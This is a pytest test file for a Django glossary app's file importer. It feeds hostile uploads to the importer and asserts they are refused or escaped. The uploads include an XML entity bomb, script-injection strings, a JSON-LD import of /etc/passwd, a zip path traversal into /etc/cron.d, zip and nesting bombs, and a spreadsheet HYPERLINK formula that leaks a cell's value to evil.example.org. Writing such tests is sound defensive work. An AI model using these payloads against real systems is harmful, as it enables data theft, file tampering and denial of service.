"""What nobody should import: refused with a sentence, nothing kept of it, in bounded memory."""

import csv
import io
import socket
import subprocess
import sys
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from glossary.models import AuditEntry, Category, PendingImport, Proposal, ReviewSet, Term
from tests.factories import CategoryFactory

pytestmark = pytest.mark.django_db
OPENMETADATA = b"name*,description,synonyms\n"
PREFIX = b"@prefix skos: <http://www.w3.org/2004/02/skos/core#> .\n"
CONCEPT = PREFIX + b'<https://x.org/1> a skos:Concept ; skos:prefLabel "One" ; skos:definition '
XML_BOMB = b"""<?xml version="1.0"?>
<!DOCTYPE rdf [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>
<rdf:RDF>&b;</rdf:RDF>"""


def zipped(name: str, content: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr(name, content)
    return out.getvalue()


# What is refused before anything is planned, and a part of the sentence that says why.
UNREADABLE = {
    "entities that multiply": (XML_BOMB, "This is XML or HTML, which is not read"),
    "a page": (b"<!doctype html><script>alert(1)</script>", "This is XML or HTML, which is not read"),
    "a context elsewhere": (
        b'{"@context": "https://evil.example.org/context", "@id": "https://x.org/1"}',
        "Its context is at another address, and nothing is fetched",
    ),
    "a context that brings in another": (
        b'{"@context": {"@import": "file:///etc/passwd"}, "@id": "https://x.org/1"}',
        "Its context is at another address, and nothing is fetched",
    ),
    "objects in objects": (
        b'{"@id": "https://x.org/1", "https://x.org/p": ' + b'{"https://x.org/p": ' * 20_000 + b"1" + b"}" * 20_001,
        "nested",
    ),
    "lists in lists": (b"[" * 200_000, "nested too deep"),
    "statements about statements": (
        PREFIX + b"<https://x.org/1> skos:broader " + b"<<( <https://x.org/1> skos:broader " * 200_000,
        "It makes statements about statements",
    ),
    "blank nodes in blank nodes": (
        PREFIX + b"<https://x.org/1> skos:broader " + b"[ skos:broader " * 200_000,
        "It cannot be read as RDF",
    ),
    "collections in collections": (
        PREFIX + b"<https://x.org/1> skos:broader " + b"( " * 200_000,
        "It cannot be read as RDF",
    ),
    "more statements than a glossary makes": (
        CONCEPT + b", ".join(b'"a%d"' % number for number in range(500_001)) + b" .",
        "It makes more than 500000 statements",
    ),
    "an address that is none": (PREFIX + b"<https://[> skos:prefLabel 1 .", "It cannot be read as RDF"),
    "half a character": (CONCEPT + b'"\\uD800" .', "It cannot be read as RDF"),
    "zero bytes": (OPENMETADATA + b"a\0,b,c\n", "It holds NUL characters"),
    "UTF-16 without a mark": ("name*,description\na,b\n".encode("utf-16-le"), "It holds NUL characters"),
    "Latin-1": (OPENMETADATA + "Größe,b,c\n".encode("latin-1"), "Line 2 holds the byte 0xf6"),
    "a picture": (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", "which is not UTF-8 text"),
    "a million rows": (OPENMETADATA + b"a,b,c\n" * 1_000_000, "the most at once is 5000"),
    "a million rows of ours": (b"slug,gap\n" + b"a,b\n" * 1_000_000, "the most at once is 5000"),
    "a million empty rows": (OPENMETADATA + b",,\n" * 1_000_000, "the most at once is 5000"),
    "a million numbers": (b"[" + b"1," * 1_000_000 + b"1]", "It holds 1000001 things"),
    "a zip that unpacks to more than is read": (
        zipped("terms/a.md", b"\0" * 61_000_000),
        "The zip unpacks to more than is read at once",
    ),
    "a zip that is cut": (zipped("terms/a.md", b"x" * 1000)[:-30], "The zip is damaged"),
    "a workbook": (zipped("[Content_Types].xml", b"<Types/>"), "a workbook or document of an office program"),
    "a million columns": (b"name*," + b"a," * 1_000_000, "The first line has more than 200 columns"),
    "nothing but blanks": (b" \n\t \n", "There is nothing in it"),
    "a graph without concepts": (PREFIX + b"<https://x.org/1> a skos:ConceptScheme .", "It holds no term"),
}
# What is read, and stands against proposing it.
REFUSED = {
    "a header of something else": (
        b"name*,description,salary\na,b,c\n",
        "'salary', which is no column of OpenMetadata",
    ),
    "a header that repeats itself": (b"name*,name,description\na,b,c\n", "names 'name' twice"),
    "a header without names": (b"a;b;c\n1;2;3\n", "which is no column; known are uid, slug"),
    "a line of ten megabytes": (
        OPENMETADATA + b'a,"' + b"x" * 9_900_000 + b'",c\n',
        "field larger than field limit (131072)",
    ),
    "a text of ten megabytes": (CONCEPT + b'"' + b"x" * 9_900_000 + b'" .', "the most is 60000"),
    "a quote that nobody closes": (OPENMETADATA + b'a,"b,c\n' * 1000, "cannot be read as CSV"),
    "rows of other lengths": (OPENMETADATA + b"a\n" * 4999, "and 4499 more of the kind"),
    "one term twice": (OPENMETADATA + b"a,b,\nA,c,\n", "is or was the address of another term"),
    "control characters": (OPENMETADATA + b"a,\x07\x1b[31m,\n", "remove it"),
    "too many synonyms": (
        OPENMETADATA + b'a,b,"' + b";".join(b"s%d" % n for n in range(500)) + b'"\n',
        "the most is 200",
    ),
    "terms above each other in a circle": (
        PREFIX
        + b"".join(
            b'<https://x.org/%d> skos:prefLabel "c%d" ; skos:definition "d" ; skos:broader <https://x.org/%d> .\n'
            % (n, n, (n + 1) % 300)
            for n in range(300)
        ),
        "leads in a circle",
    ),
    "a path out of the zip": (zipped("../../etc/cron.d/x", b"x"), "leads out of the zip"),
}


@pytest.fixture(autouse=True)
def category():
    CategoryFactory()


@pytest.fixture
def nothing_outside(monkeypatch):
    """Fails a test that looks for anything on a network."""

    def refuse(*arguments, **named):
        raise AssertionError("something was looked for outside")

    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse)


def upload(client, raw: bytes, name="words"):
    fields = {"file": SimpleUploadedFile(name, raw), "voice": "engineer", "category": "kafka"}
    return client.post("/import/", fields, follow=True)


def kept() -> list[int]:
    return [model.objects.count() for model in (Term, Proposal, ReviewSet, Category, AuditEntry)]


@pytest.mark.parametrize(("raw", "said"), UNREADABLE.values(), ids=UNREADABLE)
def test_what_cannot_be_read_is_refused_and_not_kept(client, curator, words, nothing_outside, raw, said):
    before = kept()
    response = upload(client, raw)
    assert response.status_code == 422
    assert said in words(response)
    assert not PendingImport.objects.exists()
    assert kept() == before


@pytest.mark.parametrize(("raw", "said"), REFUSED.values(), ids=REFUSED)
def test_what_is_wrong_is_told_and_nothing_of_it_can_be_proposed(client, curator, words, nothing_outside, raw, said):
    before = kept()
    response = upload(client, raw)
    assert response.status_code == 200
    assert said in words(response)
    pending = PendingImport.objects.get()
    assert client.post(f"/import/{pending.pk}/", {"deed": "confirm", "title": "Half"}).status_code == 409
    assert client.get(f"/import/{pending.pk}/dry-run.csv").status_code == 200
    assert kept() == before


def test_fifty_megabytes_are_refused_unread(client, curator):
    response = upload(client, b"x" * 50_000_000)
    assert response.status_code == 413
    assert not PendingImport.objects.exists()


def test_formulas_in_cells_are_text_here_and_in_every_table_that_leaves(client, curator):
    formula = '=HYPERLINK("https://evil.example.org?"&A1,"click")'
    out = io.StringIO()
    csv.writer(out).writerows([["name*", "displayName", "description"], ["ledger", "@SUM(1)", formula]])
    response = upload(client, out.getvalue().encode())
    pending = PendingImport.objects.get()
    assert formula.replace("&", "&amp;") not in response.content.decode()
    [_, row] = csv.reader(io.StringIO(client.get(f"/import/{pending.pk}/dry-run.csv").content.decode()))
    assert row == ["success", "Entity created", "ledger", "'@SUM(1)", f"'{formula}"]
    client.post(f"/import/{pending.pk}/", {"deed": "confirm", "title": "Formulas"})
    [proposal] = Proposal.objects.all()
    assert proposal.snapshot["definitions"]["engineer"] == formula


def test_what_is_imported_is_shown_as_text(client, curator):
    script = "<script>alert(1)</script>"
    response = upload(client, OPENMETADATA + f"{script},{script},{script}\n".encode(), name=script)
    assert script not in response.content.decode()
    assert "&lt;script&gt;alert(1)" in response.content.decode()


BOUNDED = """
import os, resource, sys
import django
os.environ.setdefault("DJANGO_SETTINGS_MODULE", "glossary.settings")
django.setup()
from glossary.services.reading_uploads import Unreadable, read_upload
raw = sys.stdin.buffer.read()
resource.setrlimit(resource.RLIMIT_AS, (500_000_000, 500_000_000))
try:
    print(len(read_upload(raw).problems))
except Unreadable as unreadable:
    print(unreadable)
"""
# Made only where they are read: some take seconds and much memory themselves.
LARGEST = {
    "empty lists": lambda: b"[" + b"[]," * 3_300_000 + b"[]]",
    "empty objects": lambda: b'{"terms": [' + b"{}," * 3_300_000 + b"{}]}",
    "rows": lambda: OPENMETADATA + b"a,b,c\n" * 1_600_000,
    "columns": lambda: b"name*," + b"a," * 4_900_000,
    "statements": lambda: CONCEPT + b",".join([b"1"] * 4_900_000) + b" .",
    "blank lines": lambda: b"\n" * 9_900_000 + CONCEPT,
    "comments": lambda: b"#\n" * 4_900_000 + CONCEPT,
    "prefixes": lambda: b"@prefix a: <http://x/> .\n" * 400_000,
    "a zip of nothing": lambda: zipped("terms/a.md", b"\0" * 1_000_000_000),
}


@pytest.mark.parametrize("make", LARGEST.values(), ids=LARGEST)
def test_reading_what_is_large_takes_less_than_half_a_gigabyte(make):
    done = subprocess.run([sys.executable, "-c", BOUNDED], input=make(), capture_output=True)
    assert done.returncode == 0, done.stderr.decode()
    assert done.stdout.strip()
